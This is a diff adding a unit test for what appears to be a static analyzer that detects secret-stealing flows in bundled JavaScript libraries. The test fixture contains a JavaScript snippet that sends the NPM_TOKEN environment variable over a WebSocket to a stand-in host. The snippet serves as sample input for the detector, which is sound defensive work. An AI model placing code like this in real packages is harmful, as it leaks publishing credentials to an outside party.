@@ -135,6 +135,18 @@ class BundledLibrariesTest {
     }
 
     @Test
+    void aClassThatExtendsOneKnownByItsMembersKeepsItsOwn() {
+        Analysis analysis = Analysis.of("""
+                class s { setSocket() {} emitClose() {} terminate() {} ping() {} pong() {} }
+                class Mine extends s { report() { this.send(process.env.NPM_TOKEN); } }
+                new Mine('wss://far.example/in').report();
+                """);
+
+        assertThat(analysis.flows("environment-secret", "network-send")).isNotEmpty();
+        assertThat(analysis.destinations("environment-secret", "network-send")).containsExactly("wss://far.example/in");
+    }
+
+    @Test
     void aClientIsKnownByWhatItExportsAndItsOwnCodeRunsBesides() {
         Analysis analysis = Analysis.of("""
                 const fs = require('fs');
